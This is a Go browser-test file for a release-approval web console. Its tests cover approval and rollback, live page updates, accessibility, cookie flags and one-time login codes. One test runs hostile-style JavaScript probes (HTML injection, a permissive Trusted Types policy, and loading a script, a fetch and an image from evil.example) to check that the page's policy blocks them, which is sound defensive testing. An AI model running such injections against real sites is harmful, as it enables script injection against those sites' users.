package browser

import (
	"context"
	"log/slog"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"k8s.io/apimachinery/pkg/api/errors"

	"github.com/emporium-shop/emporium/internal/act"
	"github.com/emporium-shop/emporium/internal/console"
	"github.com/emporium-shop/emporium/internal/console/consoletest"
	"github.com/emporium-shop/emporium/internal/testing/browser"
)

// Ana reads what changes, says why, and lets it serve; then she goes back. With scripts and without.
func TestAnApprovalAndTheWayBack(t *testing.T) {
	chrome := chromium(t)
	for name, on := range map[string]bool{"as browsers come": true, "with scripts off": false} {
		t.Run(name, func(t *testing.T) {
			d := openDesk(t)
			ana := d.people["ana"]
			b := browser.Visit(chrome, t, d.url, browser.Phone)
			b.Scripts(t, on)
			signIn(t, b, "ana")
			b.Wants(t, "AwaitingPromotion", "Read and approve…")
			b.Click(t, ".buttons a", 200)
			b.Wants(t, "registry.example/storefront:2", "19 services are the same.", "env.TRY")
			b.Fill(t, "#because", "checked by Ana")
			ana.Says = func(r act.Request) (act.Result, error) {
				return act.Result{Done: "acme-bbbbbbbb is to serve.", Changed: true, Release: r.Release}, nil
			}
			b.Click(t, "main .button", 200)
			b.Wants(t, "acme-bbbbbbbb is to serve.")
			if r := waitForAct(t, ana); r.Verb != "promote" || r.Release != consoletest.Second || r.Seen != consoletest.Second || r.Because != "checked by Ana" {
				t.Errorf("asked for %+v", r)
			}
			ana.Sees(consoletest.Switched("ana@shop", "checked by Ana"))
			if !on {
				b.Open(t, shop, 200) // it would come by itself ten seconds later
			}
			b.Comes(t, "is kept for a way back until")
			b.Click(t, `.buttons a[href*="/back"]`, 200)
			b.Wants(t, "Go back to acme-aaaaaaaa", "is pinned")
			b.Click(t, "main .button", 200)
			if r := waitForAct(t, ana); r.Verb != "rollback" || r.Release != consoletest.First || r.Seen != consoletest.Second {
				t.Errorf("asked for %+v", r)
			}
			b.Scripts(t, true)
			b.Quiet(t, false)
		})
	}
}

// Another release took the place of what Ana looks at: nothing is approved, and she is led to it.
func TestAnApprovalThatComesTooLate(t *testing.T) {
	chrome, d := chromium(t), openDesk(t)
	d.people["ana"].Says = func(act.Request) (act.Result, error) { return act.Result{}, nil }
	b := browser.Visit(chrome, t, d.url, browser.Desktop)
	signIn(t, b, "ana")
	b.Click(t, ".buttons a", 200)
	d.people["ana"].Says = func(act.Request) (act.Result, error) {
		return act.Result{}, &act.Refusal{Code: act.NotTheCandidate, Message: "acme-cccccccc is the candidate of Shop acme now, and not acme-bbbbbbbb"}
	}
	b.Click(t, "main .button", 409)
	b.Wants(t, "acme-cccccccc is the candidate", "Nothing was changed.")
	b.Click(t, "main .button", 200)
	b.Wants(t, "AwaitingPromotion")
}

// What changes is shown without a reload, and leaves alone what somebody does: the focus, and where they are.
func TestAChangeIsShownWithoutAReload(t *testing.T) {
	chrome, d := chromium(t), openDesk(t)
	b := browser.Visit(chrome, t, d.url, browser.Desktop)
	signIn(t, b, "ana")
	browser.Eval[bool](t, b, `window.before = document.getElementById("main"), scrollTo(0, 300), document.querySelector("tbody a").focus(), true`)
	for end := time.Now().Add(browser.Patience); ; time.Sleep(20 * time.Millisecond) {
		if open, _ := d.people["ana"].Watches(); open == 1 {
			break
		}
		if time.Now().After(end) {
			t.Fatal("the page does not listen")
		}
	}
	d.people["ana"].Sees(inTrouble())
	b.Comes(t, "StartDeadlineExceeded")
	b.Wants(t, "Stalled", "ImagePullBackOff")
	if !browser.Eval[bool](t, b, `window.before === document.getElementById("main") && document.activeElement === document.querySelector("tbody a") && scrollY > 0`) {
		t.Errorf("the page was made anew: the focus is at %s, scrolled to %v", browser.Eval[string](t, b, "document.activeElement.outerHTML"), browser.Eval[float64](t, b, "scrollY"))
	}
	if told := browser.Eval[string](t, b, `document.getElementById("live").textContent`); !strings.HasPrefix(told, "release acme-bbbbbbbb was not ready") {
		t.Errorf("a screen reader is told %q", told)
	}
	if wide := browser.Eval[float64](t, b, seen); wide > 1 {
		t.Errorf("the sentence stands in the page twice: what is told to screen readers is %v px wide", wide)
	}
	b.Quiet(t, false)
	d.people["ana"].Fails(errors.NewUnauthorized("expired"))
	b.Comes(t, "You are signed out.")
	if wide := browser.Eval[float64](t, b, seen); wide < 100 {
		t.Errorf("that one is signed out is %v px wide: nobody sees it", wide)
	}
	if _, begun := d.people["ana"].Watches(); begun != 1 {
		t.Errorf("it spins: %d watches", begun)
	}
	d.people["ana"].Fails(nil)
	b.Click(t, "#live a", 200)
	b.Wants(t, "A token of the cluster", `value="/shops/acme/acme"`)
}

// seen is how wide that is on the screen which tells screen readers of changes.
const seen = `document.getElementById("live").getBoundingClientRect().width`

// A session's cookie is for our pages alone, and no script reads it.
func TestTheCookieIsSafe(t *testing.T) {
	chrome, d := chromium(t), openDesk(t)
	b := browser.Visit(chrome, t, d.url, browser.Desktop)
	b.Open(t, "/login", 200)
	b.Fill(t, "#token", "nonsense")
	b.Click(t, "form .button", 422)
	b.Wants(t, "does not accept this token", "Error: ")
	signIn(t, b, "ana")
	found := false
	for _, c := range browser.Call(t, b, network.GetCookies, network.GetCookiesParams{}).Cookies {
		found = found || strings.HasPrefix(c.Name, "emporium-console-") && c.HTTPOnly && c.SameSite == network.CookieSameSiteStrict
	}
	if !found || browser.Eval[string](t, b, "document.cookie") != "" {
		t.Error("the cookie is not as it should be")
	}
	b.Click(t, ".me button", 200)
	b.Open(t, shop, 200)
	b.Wants(t, "A token of the cluster")
}

// The policy of the page holds against what gets into it all the same.
func TestThePolicyHolds(t *testing.T) {
	chrome, d := chromium(t), openDesk(t)
	b := browser.Visit(chrome, t, d.url, browser.Desktop)
	signIn(t, b, "ana")
	for what, script := range map[string]string{
		"a string that becomes HTML":  `(() => { try { document.getElementById("live").innerHTML = "<b>x</b>"; return "done" } catch { return "" } })()`,
		"a policy of its own":         `(() => { try { trustedTypes.createPolicy("mine", {createHTML: s => s}); return "done" } catch { return "" } })()`,
		"a script in the page":        `(() => { const s = document.createElement("script"); try { s.textContent = "window.done = 1" } catch {} document.body.append(s); return window.done ? "done" : "" })()`,
		"a script of another":         `new Promise(r => { const s = document.createElement("script"); try { s.src = "https://evil.example/x.js" } catch { return r("") } s.onload = () => r("done"); s.onerror = () => r(""); document.body.append(s) })`,
		"a request to another":        `fetch("https://evil.example/").then(() => "done", () => "")`,
		"a picture of another":        `new Promise(r => { const i = new Image(); i.onload = () => r("done"); i.onerror = () => r(""); i.src = "https://evil.example/x.png" })`,
		"a frame with one of our own": `new Promise(r => { const f = document.createElement("iframe"); f.src = "/shops"; f.onload = () => { try { r(f.contentDocument.title ? "done" : "") } catch { r("") } }; document.body.append(f); setTimeout(() => r(""), 3000) })`,
	} {
		if browser.Eval[string](t, b, script) != "" {
			t.Errorf("the page lets through: %s", what)
		}
	}
}

// All of it can be done without a mouse.
func TestAKeyboardIsEnough(t *testing.T) {
	chrome, d := chromium(t), openDesk(t)
	b := browser.Visit(chrome, t, d.url, browser.Desktop)
	b.Open(t, "/login", 200)
	b.TabTo(t, "#token")
	b.Do(t, chromedp.KeyEvent("ana"))
	b.Arrive(t, 200, chromedp.KeyEvent(kb.Enter))
	b.TabKey(t)
	if !browser.Eval[bool](t, b, `document.activeElement.matches(".skip")`) {
		t.Error("the first thing is not the link to the content")
	}
	b.TabTo(t, `.buttons a`)
	if outline := browser.Eval[string](t, b, "getComputedStyle(document.activeElement).outlineStyle"); outline == "none" {
		t.Error("nothing shows the focus")
	}
	b.Arrive(t, 200, chromedp.KeyEvent(kb.Enter))
	b.TabTo(t, "#because")
	b.Do(t, chromedp.KeyEvent("by keyboard"))
	b.TabTo(t, "main button")
	b.Arrive(t, 200, chromedp.KeyEvent(kb.Enter))
	if r := waitForAct(t, d.people["ana"]); r.Because != "by keyboard" || r.Release != consoletest.Second {
		t.Errorf("asked for %+v", r)
	}
	b.Arrive(t, 200, chromedp.KeyEvent("h"))
	b.Wants(t, "History of acme")
	b.Arrive(t, 200, chromedp.KeyEvent("s"))
	b.Wants(t, "AwaitingPromotion")
}

// kubectl shop console: the printed address lets one browser in; the second is turned away, and so is the code typed anew.
func TestTheAddressOfTheTerminalLetsOneBrowserIn(t *testing.T) {
	chrome := chromium(t)
	for name, on := range map[string]bool{"as browsers come": true, "with scripts off": false} {
		t.Run(name, func(t *testing.T) {
			address, code := local(t)
			b := browser.Visit(chrome, t, address, browser.Desktop)
			b.Scripts(t, on)
			if on {
				b.Do(t, chromedp.Navigate(address+"/start#k="+code))
				b.Comes(t, "Read and approve…")
			} else {
				b.Open(t, "/start#k="+code, 200)
				b.Fill(t, "#code", code)
				b.Click(t, "form .button", 200)
				b.Wants(t, "Read and approve…")
			}
			second := browser.Visit(chrome, t, address, browser.Desktop)
			second.Open(t, shop, 401)
			second.Open(t, "/start", 200)
			second.Fill(t, "#code", code)
			second.Click(t, "form .button", 403)
			second.Wants(t, "This code was used")
		})
	}
}

// local is a console with one person, as kubectl shop console starts it.
func local(t *testing.T) (address, code string) {
	t.Helper()
	listener, err := console.Loopback(t.Context(), "0")
	if err != nil {
		t.Fatal(err)
	}
	hosts := console.Hosts(listener.Addr())
	u, err := url.Parse("http://" + hosts[0])
	if err != nil {
		t.Fatal(err)
	}
	code = console.Secret()
	server, err := console.New(t.Context(), console.Options{
		Local: consoletest.New("ana@shop", consoletest.Awaiting()), Code: code, Hosts: hosts, Port: u.Port(), Log: slog.New(slog.DiscardHandler), Now: time.Now,
	})
	if err != nil {
		t.Fatal(err)
	}
	serve(t, func(ctx context.Context) error { return server.Serve(ctx, listener) })
	return u.String(), code
}
